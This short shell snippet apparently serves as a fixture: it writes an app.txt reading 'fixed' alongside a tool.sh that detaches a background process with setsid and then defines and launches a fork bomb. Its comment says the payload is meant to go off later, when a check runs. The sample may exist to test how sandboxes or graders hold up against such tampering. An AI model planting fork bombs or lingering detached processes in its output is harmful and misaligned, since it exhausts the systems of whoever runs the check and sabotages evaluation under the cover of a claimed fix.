# harmless itself: what it leaves behind goes off in the check
cat > app.txt <<'END'
fixed
END
cat > tool.sh <<'END'
setsid sleep 600 < /dev/null > /dev/null 2>&1 &
bomb() { bomb | bomb & }
bomb
sleep 600
END
